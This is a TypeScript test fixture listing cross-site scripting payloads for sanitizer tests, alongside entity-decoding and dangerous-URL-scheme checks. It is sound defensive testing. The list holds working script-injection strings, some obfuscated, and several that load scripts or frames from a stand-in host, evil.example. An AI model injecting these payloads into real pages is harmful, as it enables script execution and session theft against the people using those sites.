// Payloads from the usual XSS cheat sheets, shared by the markdown unit test and
// the end-to-end test that sends each one through every field a page shows.
// Some set window.__xss instead of calling alert, so a browser can tell that one ran
// even where a dialog would be suppressed.
export const xssPayloads: string[] = [
  // script tags
  "<script>alert(1)</script>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>alert(1)",
  '<<script>alert("x");//<</script>',
  "<script>window.__xss=1</script>",
  // event handlers on images and svg, odd casing and spacing
  "<img src=x onerror=alert(1)>",
  '<IMG SRC="x" ONERROR="alert(1)">',
  "<img src=x oNeRrOr = alert(1) >",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror\t=\talert(1)",
  "<img\nsrc=x\nonerror=alert(1)>",
  '<img src=x onerror="window.__xss=1">',
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  '<svg onload="window.__xss=1">',
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert(1)>",
  '<div style="width:expression(alert(1))" onmouseover="alert(1)">hover</div>',
  "<details open ontoggle=alert(1)>",
  '<details open ontoggle="window.__xss=1">',
  '<input autofocus onfocus="alert(1)">',
  "<a href=# onclick=alert(1)>click</a>",
  // javascript:, data: and vbscript: links in raw HTML
  '<a href="javascript:alert(1)">x</a>',
  '<a href="  javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  // bare URLs: what a resolution link imported from elsewhere might hold
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "java\nscript:alert(1)",
  "java\u0000script:alert(1)",
  "\ufeffjavascript:alert(1)",
  "javascript://%0Aalert(1)",
  "javascript:window.__xss=1",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  // the same in markdown link syntax
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](javascript:window.__xss=1)",
  "[x](javascript&colon;alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](&#x6A;avascript&#x3A;alert(1))",
  "[x](java&#x09;script:alert(1))",
  "[x](java\u0000script:alert(1))",
  "[x](java\u200bscript:alert(1))",
  "[x]( javascript:alert(1))",
  "[x](\tjavascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  '[x](javascript:alert(1) "title")',
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox(1))",
  '[x](https://example.com"onmouseover="alert(1))',
  '[x](https://example.com "\\"onmouseover=alert(1) x=\\"")',
  "[<img src=x onerror=alert(1)>](https://example.com)",
  // autolinks and reference-style links
  "<javascript:alert(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "<vbscript:msgbox(1)>",
  '<https://example.com/"onmouseover="alert(1)>',
  "[x][evil]\n\n[evil]: javascript:alert(1)",
  "[evil]\n\n[evil]: JaVaScRiPt:alert(1)",
  '[x][evil]\n\n[evil]: <javascript:alert(1)> "t"',
  // images with dangerous sources
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  '![x](https://example.com/a.png"onerror="alert(1))',
  '![x" onerror="alert(1)](https://example.com/a.png)',
  "![x][img]\n\n[img]: javascript:alert(1)",
  '<img src="javascript:alert(1)">',
  // svg and mathml tricks
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  // frames, plugins and styles
  '<iframe src="javascript:alert(1)"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<IFRAME SRC=https://evil.example>",
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  "<style>body{background:url(javascript:alert(1))}</style>",
  "<link rel=stylesheet href=javascript:alert(1)>",
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  // breaking out of the element or attribute the text lands in
  "</script><script>alert(1)</script>",
  "</SCRIPT ><script>window.__xss=1</script>",
  "<!--</script><script>alert(1)//-->",
  "</textarea><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)" x="',
  "' autofocus onfocus='alert(1)",
  "\"><svg onload=alert(1)>'",
  // entity-encoded markup must stay text, not be decoded twice
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&#x3C;svg onload=alert(1)&#x3E;",
  // unicode: fullwidth brackets, direction overrides, zero-width and NUL characters
  "＜script＞alert(1)＜/script＞",
  "＜img src=x onerror=alert(1)＞",
  "\u202egnp.exe <script>alert(1)</script>",
  "<scr\u200bipt>alert(1)</scr\u200bipt>",
  "<img src=x on\u200berror=alert(1)>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<img src=x onerror\u0000=alert(1)>",
  "\u2028<script>alert(1)</script>\u2029",
  "\ud800<script>alert(1)</script>",
  // unclosed tags, comments and markdown wrappers around HTML
  '<a href="javascript:alert(1)"',
  "<img src=x onerror=alert(1)//",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--",
  "**<img src=x onerror=alert(1)>**",
  "- <svg onload=alert(1)>\n- item",
  "> <script>alert(1)</script>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "`code` <iframe src=https://evil.example></iframe>",
  "```\n</code></pre><script>alert(1)</script>\n```",
  // template syntaxes, harmless unless something evaluates them
  "{{constructor.constructor('alert(1)')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, meant as plain text
  "${alert(1)}",
];

const namedEntities: Record<string, string> = {
  amp: "&",
  lt: "<",
  gt: ">",
  quot: '"',
  apos: "'",
  colon: ":",
  tab: "\t",
  newline: "\n",
  nbsp: "\u00a0",
  lpar: "(",
  rpar: ")",
};

// Numeric entities are decoded even without their semicolon, as browsers do in attributes.
export function decodeEntities(text: string): string {
  return text.replace(/&(?:#x([0-9a-f]+);?|#(\d+);?|([a-z]+);)/gi, (whole, hex, dec, name) => {
    if (hex) return String.fromCodePoint(Number.parseInt(hex, 16));
    if (dec) return String.fromCodePoint(Number.parseInt(dec, 10));
    return namedEntities[name.toLowerCase()] ?? whole;
  });
}

const dangerousScheme = /^(?:javascript|data|vbscript):/i;

// C0 controls and space, DEL and C1 controls, zero-width characters and the BOM.
function ignoredInUrl(code: number): boolean {
  return code <= 0x20 || (code >= 0x7f && code <= 0x9f) || (code >= 0x200b && code <= 0x200d) || code === 0xfeff;
}

// For an attribute value as the browser holds it (entities already decoded):
// browsers ignore whitespace and control characters in a URL's scheme.
export function hasDangerousScheme(value: string): boolean {
  const squashed = [...value].filter((ch) => !ignoredInUrl(ch.codePointAt(0) ?? 0)).join("");
  return dangerousScheme.test(squashed);
}

// For an attribute value as written in the HTML source.
export function isDangerousUrl(value: string): boolean {
  return hasDangerousScheme(decodeEntities(value));
}
